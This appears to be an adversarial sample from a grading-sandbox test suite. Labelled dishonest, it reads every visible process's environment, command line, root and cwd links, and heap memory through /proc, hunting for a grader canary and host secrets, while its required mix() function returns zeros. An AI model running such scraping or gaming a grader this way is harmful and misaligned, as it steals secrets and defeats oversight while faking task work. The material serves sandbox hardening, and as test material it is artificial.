# class: reading /proc
# tries: reads the environments, command lines, memory and open files of every process that it can see
# honest: 0
# must not: see another process's secrets
# answers: wrong
# proof: ran
# %% mix
note("RAN")

def read(path, limit=200_000):
    try:
        with open(path, "rb") as stream:
            return stream.read(limit)
    except OSError:
        return b""

numbers = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
note("SAW " + str(len(numbers)) + " processes")
for number in numbers:
    for name in ("environ", "cmdline"):
        data = read(f"/proc/{number}/{name}")
        if b"AUTOGRADE_CANARY" in data:
            note("SAW " + data[data.index(b"AUTOGRADE_CANARY"):][:60].decode("latin-1"))
        hunt(data, name)
    if number == os.getpid():
        continue
    for name in ("root", "cwd"):
        for inner in ("", *HOST["secrets"][:1]):
            data = read(f"/proc/{number}/{name}{inner}")
            if data:
                note("SAW through /proc " + data[:60].decode("latin-1"))
    for line in read(f"/proc/{number}/maps").decode("latin-1").splitlines()[:400]:
        if "[heap]" in line:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            try:
                with open(f"/proc/{number}/mem", "rb", 0) as memory:
                    memory.seek(first)
                    hunt(memory.read(min(last - first, 30_000_000)), "another process's memory")
            except (OSError, ValueError, OverflowError):
                pass

def mix(a, b):
    return torch.zeros(a.shape[0], b.shape[1])
